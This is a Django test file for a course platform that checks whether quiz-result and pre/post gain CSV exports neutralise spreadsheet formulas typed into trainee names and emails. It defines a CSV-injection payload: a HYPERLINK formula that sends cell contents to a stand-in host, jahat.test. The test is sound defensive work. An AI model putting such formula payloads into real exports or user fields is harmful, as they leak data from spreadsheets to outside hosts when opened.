"""Quiz-result and pre/post CSVs show a name typed as a formula as text (CSV injection)."""
import csv
import io

from django.urls import reverse

from assessments import services
from assessments.models import QuizPage
from courses.services import enrollment_create
from tests import factories

EVIL = '=HYPERLINK("http://jahat.test/?"&A1,"Klik untuk nilai")'


def cells(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_quiz_result_and_gain_csvs_neutralise_formulas(client, trainer, course):
    _category, questions = factories.question_bank(n=3)
    pre = factories.quiz_page(course, questions=questions, kind=QuizPage.Kind.PRE_TEST, slug="pre")
    post = factories.quiz_page(course, questions=questions, kind=QuizPage.Kind.POST_TEST, paired_pretest=pre,
                               slug="post")
    trainee = factories.UserFactory(full_name=EVIL, email="=cmd@contoh.test")
    enrollment_create(user=trainee, course=course)
    for quiz in (pre, post):
        attempt = services.attempt_start(user=trainee, quiz=quiz)
        services.attempt_submit(attempt_id=attempt.pk, user=trainee)
    agency = factories.AgencyFactory()  # quiz results are for the trainers of the course's own agency
    course.issuing_agency = agency
    course.save()
    trainer.agency = agency
    trainer.save()
    client.force_login(trainer)
    for url in (reverse("assessments_quiz_results", args=(post.pk,)) + "?format=csv",
                reverse("assessments_course_gain", args=(course.pk,)) + "?format=csv"):
        rows = cells(client.get(url))
        body = [cell for row in rows[1:] for cell in row]
        assert "'" + EVIL in body, url
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in body if cell), (url, body)
